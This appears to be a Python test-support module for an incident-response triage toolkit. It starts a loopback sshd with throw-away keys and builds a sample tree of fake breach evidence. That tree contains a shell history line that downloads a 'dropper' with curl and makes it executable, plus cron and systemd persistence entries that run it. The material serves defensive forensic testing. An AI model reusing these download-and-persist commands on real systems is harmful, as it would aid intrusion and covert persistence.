"""Test support for triage: a real OpenSSH sshd on 127.0.0.1 with throw-away keys.

Used by tests/test_triage_*.py, tests/test_evidence_*.py and bench/bench_triage_transfer.py.
The daemon is the distribution's /usr/sbin/sshd, started with a temporary config
(own host key, own authorized_keys, PidFile in the temp dir, UsePAM no) and
stopped by its pid. The SSH root on loopback sees this machine's files: tests
only READ through it, and collect from temp directories they create.
"""

from __future__ import annotations

import base64
import os
import signal
import socket
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

from ir_toolkit.transports.hostkeys import fingerprint
from ir_toolkit.transports.ssh import Endpoint, SshConnection, load_private_key

SSHD = "/usr/sbin/sshd"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@dataclass
class LoopbackSshd:
    directory: Path
    port: int
    process: subprocess.Popen
    host_key_fingerprint: str
    client_key: Path
    known_hosts: Path
    address: str = "127.0.0.1"

    def endpoint(self, user: str = "root") -> Endpoint:
        return Endpoint(address=self.address, port=self.port, user=user, pinned={self.host_key_fingerprint},
                        name="loopback")

    def connect(self, user: str = "root") -> SshConnection:
        return SshConnection.open(self.endpoint(user), pkey=load_private_key(self.client_key))

    def stop(self) -> None:
        if self.process.poll() is None:
            os.kill(self.process.pid, signal.SIGTERM)
            try:
                self.process.wait(10)
            except subprocess.TimeoutExpired:
                os.kill(self.process.pid, signal.SIGKILL)
                self.process.wait(10)


def start_sshd(directory: Path, addresses: tuple[str, ...] = ("127.0.0.1",)) -> LoopbackSshd:
    """Start sshd on a free port of loopback ``addresses``; returns once it accepts connections.

    ``known_hosts`` gets a line for every address (``[addr]:port``).
    """
    directory.mkdir(parents=True, exist_ok=True)
    os.chmod(directory, 0o700)
    host_key = directory / "host_ed25519"
    client_key = directory / "client_ed25519"
    for key in (host_key, client_key):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "irkit-test", "-f", str(key)],
                       check=True)
    authorized = directory / "authorized_keys"
    authorized.write_text(client_key.with_suffix(".pub").read_text())
    port = free_port()
    config = directory / "sshd_config"
    config.write_text(
        f"Port {port}\n" + "".join(f"ListenAddress {a}\n" for a in addresses)
        + f"HostKey {host_key}\nPidFile {directory / 'sshd.pid'}\n"
        f"AuthorizedKeysFile {authorized}\nUsePAM no\nPermitRootLogin prohibit-password\n"
        "PasswordAuthentication no\nKbdInteractiveAuthentication no\nStrictModes no\n"
        "Subsystem sftp /usr/lib/openssh/sftp-server\nLogLevel ERROR\nMaxStartups 100:30:200\n"
        "MaxSessions 64\nUseDNS no\nPrintMotd no\n"
    )
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
    # A private mount namespace with an empty /root: this machine's root shell rc files
    # (pyenv shims, ~0.2 s per command) stay out of the sessions; nothing outside changes.
    inner = f"mount -t tmpfs -o mode=0700 irkit-test-root /root && exec {SSHD} -D -e -f {config}"
    process = subprocess.Popen(["unshare", "--mount", "--propagation", "private", "sh", "-c", inner],
                               stdin=subprocess.DEVNULL,
                               stdout=subprocess.DEVNULL, stderr=open(directory / "sshd.log", "wb"))
    blob = base64.b64decode(host_key.with_suffix(".pub").read_text().split()[1])
    known = directory / "known_hosts"
    key_type, key_b64 = host_key.with_suffix(".pub").read_text().split()[:2]
    known.write_text("".join(f"[{a}]:{port} {key_type} {key_b64}\n" for a in addresses))
    deadline = time.monotonic() + 10
    while True:
        if process.poll() is not None:
            raise RuntimeError(f"sshd exited: {(directory / 'sshd.log').read_text()}")
        try:
            with socket.create_connection((addresses[0], port), timeout=1) as sock:
                if sock.recv(4).startswith(b"SSH-"):
                    break
        except OSError:
            pass
        if time.monotonic() > deadline:
            process.kill()
            raise RuntimeError("sshd did not start listening")
        time.sleep(0.05)
    return LoopbackSshd(directory, port, process, fingerprint(blob), client_key, known, addresses[0])


def make_evidence_tree(root: Path) -> dict[str, Path]:
    """Sample breach traces in a temp dir: logs, cron, a systemd unit, an executable, a symlink out of scope."""
    paths = {
        "auth_log": root / "var/log/auth.log",
        "cron": root / "etc/cron.d/backdoor",
        "unit": root / "etc/systemd/system/updater.service",
        "history": root / "home/mspadmin/.bash_history",
        "dropper": root / "tmp/.x/dropper",
        "notes": root / "tmp/notes.txt",
        "big": root / "var/log/huge.log",
        "link": root / "etc/cron.d/passwd-link",
    }
    for path in paths.values():
        path.parent.mkdir(parents=True, exist_ok=True)
    paths["auth_log"].write_text(
        "Nov 26 03:12:01 web01 sshd[812]: Accepted publickey for mspadmin from 203.0.113.66 port 50122 ssh2\n"
    )
    paths["cron"].write_text("*/5 * * * * root /tmp/.x/dropper >/dev/null 2>&1\n")
    paths["unit"].write_text("[Service]\nExecStart=/tmp/.x/dropper\n[Install]\nWantedBy=multi-user.target\n")
    paths["history"].write_text("curl -s http://203.0.113.66/x -o /tmp/.x/dropper\nchmod +x /tmp/.x/dropper\n")
    paths["dropper"].write_bytes(b"#!/bin/sh\nexec sleep 1000\n" + os.urandom(2048))
    paths["dropper"].chmod(0o755)
    paths["notes"].write_text("not executable\n")
    paths["big"].write_bytes(b"x" * (300 * 1024))
    paths["link"].symlink_to("/etc/passwd")
    old = 1_600_000_000.123456789
    os.utime(paths["cron"], (old, old))
    return paths


def write_inventory(path: Path, sshd: LoopbackSshd, hosts: dict[str, tuple[str, str]],
                    known_hosts: Path | None = None) -> Path:
    """An inventory whose hosts (name -> (tenant, address)) are the loopback sshd."""
    tenants: dict[str, list[str]] = {}
    for name, (tenant, address) in hosts.items():
        tenants.setdefault(tenant, []).append(f"      - {{name: {name}, address: {address}, port: {sshd.port}}}\n")
    text = (
        "version: 1\nmsp:\n  name: testmsp\n"
        f"  known_hosts: {known_hosts or sshd.known_hosts}\n"
        f"  responder: {{user: root, key: 'file:{sshd.client_key}', controller_address: 127.0.0.1}}\n"
        "tenants:\n"
    )
    for tenant, lines in tenants.items():
        text += f"  - name: {tenant}\n    hosts:\n" + "".join(lines)
    path.write_text(text)
    return path


def write_definitions(directory: Path, root: Path) -> Path:
    """Artifact definitions and a profile ``t`` that point at the sample tree under ``root``."""
    directory.mkdir(exist_ok=True)
    (directory / "t.yml").write_text(f"""version: 1
artifacts:
  - {{name: linux.t.ps, description: processes, os: linux, collector: command, order: 1, command: "ps -eo pid,args"}}
  - {{name: linux.t.missing_tool, description: missing tool, os: linux, collector: command, order: 2,
      command: no-such-tool-xyz}}
  - {{name: linux.t.logs, description: logs, os: linux, collector: glob, order: 60, paths: ["{root}/var/log/*"],
      max_file_size: 100k}}
  - {{name: linux.t.persistence, description: cron and units, os: linux, collector: file, order: 61,
      paths: ["{root}/etc/cron.d", "{root}/etc/systemd", "{root}/etc/ld.so.preload"]}}
  - {{name: linux.t.tmp_exec, description: executables, os: linux, collector: file, order: 62, executable: true,
      paths: ["{root}/tmp"]}}
  - {{name: linux.t.history, description: histories, os: linux, collector: glob, order: 63,
      paths: ["{root}/home/*/.bash_history"]}}
  - {{name: linux.t.tmp_hash, description: hashes, os: linux, collector: hash, order: 64, paths: ["{root}/tmp"]}}
""")
    (directory / "profiles.yml").write_text("version: 1\nprofiles:\n"
                                            "  - {name: t, description: test, artifacts: ['linux.t.*']}\n")
    return directory
